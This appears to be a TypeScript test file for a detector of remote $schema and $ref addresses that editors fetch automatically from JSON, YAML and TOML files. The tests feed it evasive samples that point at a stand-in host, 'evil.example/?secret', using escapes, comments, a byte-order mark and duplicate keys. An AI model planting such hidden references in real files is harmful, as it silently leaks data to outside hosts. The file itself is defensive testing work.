// Addresses that an editor would fetch on its own from a file that was written.
import assert from "node:assert/strict";
import { findRemoteSchemas } from "../../../src/core/protected/remoteSchemas.ts";

const EVIL = "https://evil.example/?secret";
const found = (text: string, name = "a.json") => [...findRemoteSchemas(name, text)];

describe("a remote schema", () => {
	const hidden: [string, string][] = [
		["as it is usually written", `{ "$schema": "${EVIL}" }`],
		["with escapes in its key", `{ "\\u0024sch\\u0065ma": "${EVIL}" }`],
		["with escapes in its address", `{ "$schema": "https:\\/\\/evil.example\\/?secret" }`],
		["with comments between", `// x\n{ /* " */ "$schema" /* "a": */ : // "\n "${EVIL}" }`],
		["behind a mark of the byte order", `\uFEFF{"$schema":"${EVIL}"}`],
		["in a string that nothing closes", `{ "$schema": "${EVIL}\n`],
		["after one that is harmless", `{ "$schema": "./a.json", "$schema": "${EVIL}" }`],
		["as a reference of a local schema", `{ "properties": { "a": { "$ref": "${EVIL}" } } }`],
		["deep in an array", `[[[{"$schema":"${EVIL}"}]]]`],
	];
	for (const [how, text] of hidden) it(`is found ${how}`, () => assert.deepEqual(found(text), [EVIL]));

	it("is found whatever the file is called, as long as its content is JSON", () => {
		for (const name of ["a.json", "a.jsonc", "x.code-snippets", ".eslintrc", "data", "a.JSON"]) {
			assert.deepEqual(found(`{"$schema":"${EVIL}"}`, name), [EVIL], name);
		}
		assert.deepEqual(found(`const schema = {"$schema":"${EVIL}"};`, "a.ts"), []);
	});

	it("is found in YAML and TOML, where language servers look for it", () => {
		assert.deepEqual(found(`# yaml-language-server: $schema=${EVIL}\na: 1\n`, "a.yaml"), [EVIL]);
		assert.deepEqual(found(`$schema: "${EVIL}"\n`, "a.yml"), [EVIL]);
		assert.deepEqual(found(`#:schema ${EVIL}\n`, "a.toml"), [EVIL]);
	});

	it("is any address that leaves this disk", () => {
		const remote = ["http://a.b/c", "HTTPS://a.b", " https://a.b", "ftp://a/b", "//host/share/a.json", "\\\\host\\a", "file://host/a.json"];
		for (const address of remote) assert.equal(found(JSON.stringify({ $schema: address })).length, 1, address);
		const local = ["./a.json", "../a.json", "/x/a.json", "file:///x/a.json", "c:/x/a.json", "vscode://schemas/settings", "#/a", ""];
		for (const address of local) assert.deepEqual(found(JSON.stringify({ $schema: address })), [], address);
	});

	it("is not a value of another name", () => {
		assert.deepEqual(found(JSON.stringify({ schema: EVIL, url: EVIL, a: ["$schema", EVIL], $id: EVIL, b: "$schema" })), []);
	});

	it("is looked for in linear time", () => {
		const mega = 1_000_000;
		for (const piece of ['"', '"$schema"/*', '"$schema":', "\\", '{"', "/*", "//", " ", '"$schema" :"a"\n', "$schema:", "\\u00"]) {
			const text = `{ "$schema"${piece.repeat(mega / piece.length)}`;
			for (const name of ["a.json", "a.yaml"]) {
				const start = process.cpuUsage();
				findRemoteSchemas(name, text);
				const { user } = process.cpuUsage(start);
				assert.ok(user < 1_000_000, `${name} ${JSON.stringify(piece)}: ${user} µs`);
			}
		}
	});
});
